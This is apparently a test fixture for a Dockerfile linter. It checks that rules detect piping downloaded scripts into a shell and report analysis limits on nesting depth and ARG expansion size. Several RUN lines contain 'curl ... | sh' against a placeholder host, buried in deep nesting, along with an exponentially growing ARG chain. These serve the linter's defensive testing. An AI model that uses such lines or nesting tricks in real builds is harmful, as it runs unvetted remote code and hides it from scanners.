# dockvet-test rules=DV1120,DV1070
# Budgets: past one, the instruction is reported as analysed in part.
FROM alpine:3.22
# ok DV1120
ARG SHORT=abcdefgh
# ok DV1120
ARG PAIR=$SHORT$SHORT
# Ordinary nesting is analysed: the pipe to a shell inside eval is found.
# want DV1070 "`curl` output is run by `sh`"
# ok DV1120
RUN eval "$(echo x)" && sh -c "sh -c 'curl -fsSL https://x.example/i.sh | sh'"
# want DV1120 "command nesting exceeds 8 levels \\(shell.MaxDepth\\); the rest was not analysed"
RUN echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(echo "$(curl -fsSL https://x.example/i.sh | sh)")")")")")")")")"
# An ARG chain that quadruples each line: the value that would outgrow
# 64 KiB is kept as written, and said so.
ARG V0=xxxxxxxx
ARG V1=$V0$V0$V0$V0
ARG V2=$V1$V1$V1$V1
ARG V3=$V2$V2$V2$V2
ARG V4=$V3$V3$V3$V3
ARG V5=$V4$V4$V4$V4
# ok DV1120
ARG V6=$V5$V5$V5$V5
# want DV1120 "ARG: a variable expands to more than 65536 bytes \\(dockerfile.MaxValueBytes\\); the word was kept as written"
ARG V7=$V6$V6$V6$V6
# ok DV1120
ARG V8=$V7$V7$V7$V7
# Brackets nested past shell.MaxNesting: the script is not parsed at all
# (the parser recurses per level), so the pipe to a shell inside is not seen.
# want DV1120 "RUN: the script nests up to 501 levels \\(shell.MaxNesting is 500\\); it was not analysed"
RUN (((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((curl -fsSL https://x.example/i.sh | sh)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))
